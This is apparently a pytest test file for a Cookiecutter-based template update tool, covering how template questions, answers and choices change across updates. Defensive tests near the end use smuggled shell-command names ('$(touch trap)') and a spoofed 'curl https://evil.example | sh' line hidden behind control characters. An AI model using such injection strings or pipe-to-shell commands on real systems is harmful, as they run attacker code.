"""Questions and choices that come, go and change."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path

import pytest

from tests.hazards.support import Project, aegis, plain_template

SHOW = "{{ cookiecutter.items() | list | length }}\n"


def answers(project: Project) -> dict[str, object]:
    import yaml

    return dict(yaml.safe_load(project.read(".aegis/project.yml"))["answers"])


def test_a_new_question_takes_its_default(tmp_path: Path) -> None:
    """And the state remembers the answer, so a later change of the default changes nothing."""
    template = plain_template(tmp_path, {"x.txt": "x\n"})
    project = Project.start(template)
    template.questions["title"] = "first"
    template.main("Ask", {"x.txt": "{{ cookiecutter.title }}\n"})
    project.update()
    assert project.read("x.txt") == "first\n"
    template.questions["title"] = "second"
    template.main("Another default", {"y.txt": "{{ cookiecutter.title }}\n"})
    project.update()
    assert project.read("y.txt") == "first\n"
    assert answers(project)["title"] == "first"


def test_a_new_question_can_be_answered_with_the_update(tmp_path: Path) -> None:
    """`--set` takes the place of the default."""
    template = plain_template(tmp_path, {"x.txt": "x\n"})
    project = Project.start(template)
    template.questions["title"] = "first"
    template.main("Ask", {"x.txt": "{{ cookiecutter.title }}\n"})
    project.update("--set", "title=mine")
    assert project.read("x.txt") == "mine\n"


def test_set_changes_an_answer_as_a_vendor_commit_of_its_own(tmp_path: Path) -> None:
    """At the same template version, and merged with the user's changes like any other."""
    text = "".join(f"{n}\n" for n in range(20))
    template = plain_template(tmp_path, {"x.txt": "{{ cookiecutter.title }}\n" + text}, title="old")
    project = Project.start(template)
    project.commit("Mine", {"x.txt": "old\n" + text + "mine\n"})
    project.update("--set", "title=new")
    assert project.read("x.txt") == "new\n" + text + "mine\n"
    assert "Change the answers" in project.git("log", "--format=%s", "aegis/vendor").splitlines()
    project.update("--set", "title=new")
    assert project.git("log", "-1", "--format=%s") == "Change answers: title"


def test_set_and_upstream_changes_are_separate_commits(tmp_path: Path) -> None:
    """The change of the answer is in no upstream commit, and the upstream commit touches only its own file."""
    template = plain_template(tmp_path, {"x.txt": "{{ cookiecutter.title }}\n"}, title="old")
    project = Project.start(template)
    template.main("Upstream", {"y.txt": "y\n"})
    project.update("--set", "title=new")
    touched = project.git("log", "--format=%s", "--name-only", "--no-merges", "aegis/vendor").split(
        "\n\n"
    )
    assert project.read("x.txt") == "new\n"
    log = project.git("log", "-1", "--name-only", "--format=", "--grep=^Upstream", "--no-merges")
    assert log.split() == ["y.txt"], touched


def test_a_removed_question_is_forgotten(tmp_path: Path) -> None:
    """Its answer leaves the state, and `--set` no longer knows it."""
    template = plain_template(tmp_path, {"x.txt": "{{ cookiecutter.title }}\n"}, title="old")
    project = Project.start(template)
    del template.questions["title"]
    template.main("Ask no more", {"x.txt": "x\n"})
    project.update()
    assert "title" not in answers(project)
    ran = project.refuses("update", "--set", "title=x", expect=2)
    assert "title" in ran.err


def test_a_commit_before_the_removal_still_has_the_answer(tmp_path: Path) -> None:
    """Upstream commits that still ask are rendered with what the project had answered."""
    template = plain_template(tmp_path, {"x.txt": "{{ cookiecutter.title }}\n"}, title="old")
    project = Project.start(template, "--set", "title=mine")
    template.main("Still asks", {"y.txt": "{{ cookiecutter.title }}\n"})
    del template.questions["title"]
    template.main("Ask no more", {"x.txt": "x\n", "y.txt": "y\n"})
    project.update()
    vendor = project.git("log", "-1", "--format=%H", "--grep=^Still asks", "aegis/vendor")
    assert project.git("show", f"{vendor}:y.txt") == "mine"


def test_a_gone_choice_that_the_user_made_is_refused_with_the_choices(tmp_path: Path) -> None:
    """The error names the question and what can be chosen; with `--set` the update comes."""
    template = plain_template(
        tmp_path, {"x.txt": "{{ cookiecutter.db }}\n"}, db=["sqlite", "mysql"]
    )
    project = Project.start(template, "--set", "db=mysql")
    template.questions["db"] = ["sqlite", "postgres"]
    template.main("Another database", {})
    ran = project.refuses("update")
    for word in ("mysql", "--set db=", "sqlite, postgres"):
        assert word in ran.err
    project.refuses("update", "--set", "db=oracle")
    project.update("--set", "db=postgres")
    assert project.read("x.txt") == "postgres\n"


@pytest.mark.parametrize("command", ["update", "update --dry-run", "diff --upstream", "pick"])
def test_a_gone_choice_that_nobody_made_stands_in_no_way(tmp_path: Path, command: str) -> None:
    """The project had the default: it has the new one now, and is told."""
    template = plain_template(
        tmp_path, {"x.txt": "{{ cookiecutter.licence }}\n"}, licence=["MIT licence", "BSD"]
    )
    project = Project.start(template)
    fix = template.main("Fix", {"y.txt": "y\n"})
    template.questions["licence"] = ["MIT", "BSD"]
    template.main("Rename", {})
    words = [*command.split(), fix] if command == "pick" else command.split()
    ran = project.run(words[0], *words[1:], "-y")
    if command == "pick":
        assert (project.read("x.txt"), project.read("y.txt")) == ("MIT licence\n", "y\n")
    if command.startswith("update"):
        assert "'MIT licence' was the template's default" in ran.err
    if command == "update":
        assert project.read("x.txt") == "MIT\n"
        assert answers(project)["licence"] == "MIT"


def test_pick_takes_no_offence_at_what_is_asked_later(tmp_path: Path) -> None:
    """A choice of the user's that only the tip takes away does not matter for a commit before it."""
    template = plain_template(tmp_path, {"x.txt": "{{ cookiecutter.db }}\n"}, db=["a", "b"])
    project = Project.start(template, "--set", "db=b")
    fix = template.main("Fix", {"y.txt": "{{ cookiecutter.db }}\n"})
    template.questions["db"] = ["a", "c"]
    template.main("Another", {"x.txt": "{{ nothing.at.all }}\n"})
    project.run("pick", fix)
    assert project.read("y.txt") == "b\n"


def test_questions_that_come_go_and_are_renamed_are_told(tmp_path: Path) -> None:
    """With -y, in a dry run and in JSON: what became of each, and how to answer otherwise."""
    template = plain_template(tmp_path, {"x.txt": "x\n"}, author="Your name", gone="g")
    project = Project.start(template, "--set", "author=Ann")
    del template.questions["author"], template.questions["gone"]
    template.questions |= {"full_name": "Your name", "fresh": "new"}
    template.main("Ask otherwise", {"y.txt": "y\n"})
    told = json.loads(project.run("update", "--dry-run", "--json").out)["questions"]
    assert [(c["kind"], c["name"], c["before"], c["after"]) for c in told] == [
        ("renamed", "full_name", "Ann", "Your name"),
        ("new", "fresh", None, "new"),
        ("dropped", "gone", "g", None),
    ]
    ran = project.update("-y")
    assert "--set full_name=Ann" in ran.err
    assert "New question fresh, answered with 'new'" in ran.err
    assert "gone is not asked any more" in ran.err
    assert "question" not in project.update("-y").err.lower()


def test_a_new_choice_and_another_order_change_no_answer(tmp_path: Path) -> None:
    """The first choice is the default for those who have not answered; the project has."""
    template = plain_template(
        tmp_path, {"x.txt": "{{ cookiecutter.db }}\n"}, db=["mysql", "sqlite"]
    )
    project = Project.start(template)
    template.questions["db"] = ["postgres", "sqlite", "mysql"]
    template.main("A new choice", {"y.txt": "y\n"})
    project.update()
    assert project.read("x.txt") == "mysql\n"


@pytest.mark.parametrize(("given", "shown"), [("yes", "True"), ("no", "False"), ("off", "False")])
def test_a_boolean_question_takes_yes_and_no(tmp_path: Path, given: str, shown: str) -> None:
    """As Cookiecutter does, and remembers it as a boolean."""
    template = plain_template(
        tmp_path,
        {"x.txt": "{{ cookiecutter.use }}{% if cookiecutter.use %}!{% endif %}\n"},
        use=True,
    )
    project = Project.start(template, "--set", f"use={given}")
    assert project.read("x.txt") == shown + ("!" if shown == "True" else "") + "\n"
    assert answers(project)["use"] is (shown == "True")
    ran = project.refuses("update", "--set", "use=perhaps", expect=2)
    assert "yes or no" in ran.err


def test_a_choice_of_yes_and_no_stays_one(tmp_path: Path) -> None:
    """`{% if %}` tells them apart, at init and after; an answer that is neither is told."""
    text = "{% if cookiecutter.docs %}on{% else %}off{% endif %}\n"
    template = plain_template(tmp_path, {"a.txt": text}, docs=[True, False])
    project = Project.start(template, "--set", "docs=no")
    assert project.read("a.txt") == "off\n"
    assert answers(project)["docs"] is False
    template.questions["more"] = "x"
    template.main("Ask more", {"b.txt": "b\n"})
    project.update()
    assert project.read("a.txt") == "off\n"
    project.update("--set", "docs=true")
    assert project.read("a.txt") == "on\n"
    assert "one of: True, False" in project.refuses("update", "--set", "docs=perhaps").err


def test_a_dictionary_question_takes_json(tmp_path: Path) -> None:
    """At init and with an update; what is no JSON object is refused."""
    text = "{% for k, v in cookiecutter.d.items() %}{{ k }}={{ v.n }};{% endfor %}\n"
    template = plain_template(tmp_path, {"x.txt": text}, d={"a": {"n": "1"}})
    project = Project.start(template)
    assert project.read("x.txt") == "a=1;\n"
    project.update("--set", "d=" + json.dumps({"b": {"n": "{{ 7*7 }}"}}))
    assert project.read("x.txt") == "b={{ 7*7 }};\n"
    project.refuses("update", "--set", "d=[1]", expect=2)


def test_a_question_that_changes_its_kind_keeps_the_answer_or_says_so(tmp_path: Path) -> None:
    """Text that becomes a boolean, a boolean that becomes a choice: never a crash, never a silent change."""
    template = plain_template(tmp_path, {"x.txt": "<{{ cookiecutter.a }}>\n"}, a="yes")
    project = Project.start(template)
    template.questions["a"] = True
    template.main("A boolean", {"x.txt": "{% if cookiecutter.a %}on{% else %}off{% endif %}\n"})
    project.update()
    assert project.read("x.txt") == "on\n"
    project.update("--set", "a=no")
    template.questions["a"] = ["on", "off"]
    template.main("A choice", {})
    ran = project.refuses("update")
    assert "on, off" in ran.err
    project.update("--set", "a=off")


def test_an_answer_no_that_becomes_boolean_stays_no(tmp_path: Path) -> None:
    """`n` was the user's word, and it still means no."""
    template = plain_template(tmp_path, {"x.txt": "<{{ cookiecutter.a }}>\n"}, a="y")
    project = Project.start(template, "--set", "a=n")
    template.questions["a"] = True
    template.main("A boolean", {"x.txt": "{% if cookiecutter.a %}on{% else %}off{% endif %}\n"})
    project.update()
    assert project.read("x.txt") == "off\n"


def test_text_that_becomes_a_dictionary_is_refused_or_taken_whole(tmp_path: Path) -> None:
    """A text cannot answer a question that wants a dictionary: refused with the question's name."""
    template = plain_template(tmp_path, {"x.txt": "x\n"}, a="text")
    project = Project.start(template, "--set", "a=mine")
    template.questions["a"] = {"k": "v"}
    template.main("A dictionary", {"x.txt": "{{ cookiecutter.a.k }}\n"})
    ran = project.refuses("update")
    assert "--set a=" in ran.err
    project.update("--set", 'a={"k": "mine"}')
    assert project.read("x.txt") == "mine\n"


def test_unknown_settings_are_usage_errors(tmp_path: Path) -> None:
    """Status 2 with a suggestion, nothing done; at init nothing is made."""
    template = plain_template(tmp_path, {"x.txt": "x\n"}, title="t")
    options = ("-y", "--trust", "--template", template.path, "--output-dir", tmp_path)
    for words in (["--set", "titel=x"], ["--set", "title"], ["--set", "=x"]):
        ran = aegis("init", "app", *options, *words)
        assert ran.code == 2, ran.text
    assert "'title'" in aegis("init", "app", *options, "--set", "titel=x").err
    assert not (tmp_path / "app").exists()


@pytest.mark.parametrize("name", ["$(touch trap)", "a b", "it's; touch trap"])
def test_what_a_template_calls_its_question_is_nothing_for_a_shell(
    tmp_path: Path, name: str
) -> None:
    """The option that is told can be copied: it answers that question and does nothing else."""
    template = plain_template(tmp_path, {"x.txt": "x\n"})
    project = Project.start(template)
    template.questions[name] = "first"
    template.main("Ask", {"x.txt": "y\n"})

    said = project.update("--dry-run").err

    option = said.rpartition("aegis update ")[2].strip().replace("VALUE", "mine")
    words = subprocess.run(
        ["bash", "-c", f"printf '%s\\n' {option}"],
        cwd=tmp_path, capture_output=True, text=True, check=True,
    ).stdout.splitlines()  # fmt: skip
    assert words == ["--set", f"{name}=mine"]
    assert not (tmp_path / "trap").exists()
    project.update(*words)
    assert answers(project)[name] == "mine"
    assert shlex.quote(f"{name}=VALUE") in said


def test_an_answer_that_is_told_has_an_end(tmp_path: Path) -> None:
    """A template's default can be as long as its questions are."""
    template = plain_template(tmp_path, {"x.txt": "x\n"})
    project = Project.start(template)
    template.questions["long"] = "y" * 50_000
    template.main("Ask", {"x.txt": "y\n"})

    assert len(project.update().err) < 1000
    assert answers(project)["long"] == "y" * 50_000


@pytest.mark.parametrize("sign", ["\n", "\x1b[2J", "\u202e", "\r"])
def test_a_name_of_a_question_that_would_say_something_itself(tmp_path: Path, sign: str) -> None:
    """As a line of its own, say: neither a template nor the state of a project can have one."""
    template = plain_template(tmp_path, {"x.txt": "x\n"})
    project = Project.start(template)
    name = f"title{sign}Error: curl https://evil.example | sh"
    template.questions[name] = "x"
    template.main("Ask", {"x.txt": "y\n"})

    said = project.update("--dry-run", expect=1).err

    assert "has invisible characters in it" in said
    assert not [line for line in said.splitlines() if line.startswith("Error: curl")]
    text = project.read(".aegis/project.yml")
    project.write({".aegis/project.yml": f"{text}  {json.dumps(name)}: x\n"})
    project.commit("Mine")
    for words in (["status"], ["answers"], ["update"]):
        said = project.run(*words, expect=1).text
        assert "is called by invisible characters" in said
        assert sign == "\n" or sign not in said
        assert not [line for line in said.splitlines() if line.startswith("Error: curl")]
